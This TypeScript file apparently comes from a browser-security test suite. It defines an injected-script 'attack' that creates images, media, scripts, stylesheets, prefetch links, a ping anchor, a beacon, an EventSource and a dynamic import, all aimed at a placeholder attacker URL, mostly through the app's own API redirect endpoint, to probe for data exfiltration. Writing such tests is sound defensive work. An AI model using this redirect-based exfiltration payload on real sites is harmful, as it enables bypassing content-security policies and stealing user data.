import { attack } from "../attack.js";

export default attack({
  name: "loads images, beacons, prefetches, scripts and styles through a redirect of the API",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const to = (path: string) =>
      `${it.ownApiUrl ?? it.apiUrl}redirect?${new URLSearchParams({ to: `${it.attackerUrl}/${path}` })}`;
    const element = (name: string, attributes: Record<string, string>) => {
      const created = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) {
        try {
          created.setAttribute(key, value);
        } catch {
          // Trusted Types refuse an untrusted script URL.
        }
      }
      document.body.append(created);
    };
    element("img", { src: to("img") });
    element("img", { src: `${it.attackerUrl}/v1/me` });
    element("img", { src: to("img-cors"), crossorigin: "use-credentials" });
    element("audio", { src: to("audio") });
    element("video", { src: to("video"), poster: to("poster") });
    element("script", { src: to("script") });
    element("link", { rel: "stylesheet", href: to("style") });
    for (const rel of ["prefetch", "preload", "modulepreload", "icon", "manifest"]) {
      element("link", { rel, href: to(rel), as: "fetch" });
    }
    element("a", { href: location.pathname + location.hash, ping: to("ping"), id: "ping" });
    navigator.sendBeacon(to("beacon"), "x");
    if ("EventSource" in window) {
      const source = new EventSource(to("events"));
      setTimeout(() => source.close(), 800);
    }
    await import(to("import")).catch(() => {});
    await it.pause(1_000);
  },
});
